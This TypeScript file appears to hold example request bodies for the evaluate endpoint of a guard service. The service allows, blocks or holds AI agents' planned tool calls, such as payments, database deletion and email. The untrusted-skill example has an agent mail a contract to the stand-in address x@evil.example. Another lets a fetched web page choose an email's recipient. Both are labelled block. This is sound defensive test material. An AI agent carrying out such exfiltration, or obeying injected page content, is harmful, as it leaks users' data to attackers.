import type { Example } from '../operation.ts';

const FINANCE = { agent_id: 'agent-finance-01', agent_name: 'finance_agent', tenant_id: 'acme-corp' };
const OPERATIONS = { agent_id: 'agent-ops-01', agent_name: 'ops_agent', tenant_id: 'acme-corp' };
const RESEARCH = { agent_id: 'agent-research-01', agent_name: 'research_agent', tenant_id: 'acme-corp' };
const FROM_USER = [{ source_type: 'user_prompt', source_name: 'chat', trust_level: 'trusted' }];
const FROM_SKILL = [
  { source_type: 'skill', source_name: 'untrusted_openclaw_skill', trust_level: 'unverified' },
];

const READ_CONTRACT = {
  agent: FINANCE,
  provenance: FROM_USER,
  steps: [{ tool_name: 'read_contract', arguments: { contract_id: 'C-7' } }],
};

const MAIL_FROM_SKILL = {
  agent: FINANCE,
  provenance: FROM_SKILL,
  steps: [
    {
      tool_name: 'send_email',
      arguments: { to: 'x@evil.example', subject: 'Contract', body: 'All of it.' },
      sensitivity_level: 'high',
    },
  ],
};

const SMALL_PAYMENT = {
  agent: FINANCE,
  provenance: FROM_USER,
  steps: [
    {
      tool_name: 'make_payment',
      arguments: { payee: 'Stationery Ltd', amount: 250, currency: 'USD' },
      estimated_cost: { usd: 0.02, tokens: 900 },
    },
  ],
};

const LARGE_PAYMENT = {
  agent: FINANCE,
  provenance: FROM_USER,
  on_behalf_of: { type: 'user', id: 'u-17' },
  correlation_id: 'cid-8821',
  steps: [
    {
      tool_name: 'make_payment',
      arguments: { payee: 'Stationery Ltd', amount: 2500, currency: 'USD' },
      sensitivity_level: 'high',
    },
  ],
};

const FETCH = { step_id: 's1', tool_name: 'fetch_url', arguments: { url: 'https://news.example/today' } };
const WHAT_A_PAGE_SAYS = { $from: 's1', path: '/text' };

const MAIL_WHAT_A_PAGE_SAYS = {
  agent: RESEARCH,
  provenance: FROM_USER,
  steps: [
    FETCH,
    {
      step_id: 's2',
      tool_name: 'send_email',
      arguments: { to: 'lee@acme.example', subject: 'News', body: WHAT_A_PAGE_SAYS },
    },
  ],
};

const MAIL_TO_WHOM_A_PAGE_SAYS = {
  agent: RESEARCH,
  provenance: FROM_USER,
  steps: [
    FETCH,
    {
      step_id: 's2',
      tool_name: 'send_email',
      arguments: { to: { $from: 's1', path: '/contact' }, subject: 'News', body: WHAT_A_PAGE_SAYS },
    },
  ],
};

const MAIL_QUOTING_A_PAGE = {
  agent: RESEARCH,
  provenance: FROM_USER,
  steps: [
    {
      tool_name: 'send_email',
      arguments: { to: 'lee@acme.example', subject: 'News', body: 'The page says that rates fall.' },
      provenance: [
        {
          source_type: 'retrieval_chunk',
          source_name: 'https://news.example/today',
          content: 'Rates fall, says the bank.',
          flows_into: ['/body'],
        },
      ],
    },
  ],
};

const DELETE_DATABASE = {
  agent: OPERATIONS,
  provenance: FROM_USER,
  steps: [{ tool_name: 'delete_database', arguments: { database: 'orders' } }],
};

const UNKNOWN_AGENT = { ...READ_CONTRACT, agent: { agent_id: 'agent-unknown', tenant_id: 'acme-corp' } };

const SHORTHAND = {
  agent_name: 'finance_agent',
  tool_name: 'read_contract',
  arguments: { contract_id: 'C-7' },
};

/**
 * What `POST /evaluate` is tried with, against the default bundle. A summary begins with the decision where there is
 * one; a test holds it to that.
 */
export const PLAN_EXAMPLES: Readonly<Record<string, Example>> = {
  read_contract: { summary: 'allow: a contract is read', value: READ_CONTRACT },
  untrusted_skill: { summary: 'block: an untrusted skill wants to mail outside', value: MAIL_FROM_SKILL },
  small_payment: {
    summary: 'allow: a small payment, with a permit',
    value: { ...SMALL_PAYMENT, request_permit: true },
  },
  large_payment: { summary: 'require_approval: a larger payment waits for a person', value: LARGE_PAYMENT },
  data_flow: {
    summary: 'block: a web page may not say whom to write to',
    value: MAIL_TO_WHOM_A_PAGE_SAYS,
  },
  passed_on: {
    summary: 'allow: what a web page says is passed on to a colleague',
    value: MAIL_WHAT_A_PAGE_SAYS,
  },
  quoted: {
    summary: 'allow: a mail that a user asked for quotes a web page',
    value: MAIL_QUOTING_A_PAGE,
  },
  destructive: { summary: 'block: nobody deletes a database', value: DELETE_DATABASE },
  unknown_agent: { summary: 'block: an agent nobody registered', value: UNKNOWN_AGENT },
  dry_run: {
    summary: 'require_approval: the same payment, tried dry',
    value: { ...LARGE_PAYMENT, mode: 'dry_run' },
  },
  shorthand: { summary: 'allow: the one-call shorthand', value: SHORTHAND },
  unknown_field: {
    summary: 'A mistyped field is refused with its pointer',
    value: { ...READ_CONTRACT, stepz: [] },
    status: 400,
  },
};

export const EXPLAIN_EXAMPLES: Readonly<Record<string, Example>> = {
  untrusted_skill: { summary: 'block: why may the skill not mail?', value: MAIL_FROM_SKILL },
  shorthand: { summary: 'allow: the one-call shorthand', value: SHORTHAND },
};

export const BATCH_EXAMPLES: Readonly<Record<string, Example>> = {
  two_plans: { summary: 'Two plans, two decisions', value: { plans: [READ_CONTRACT, MAIL_FROM_SKILL] } },
  one_malformed: {
    summary: 'A malformed plan gets its problem, the other its decision',
    value: { plans: [{ steps: [] }, READ_CONTRACT] },
  },
  empty: { summary: 'No plans at all', value: { plans: [] }, status: 400 },
};
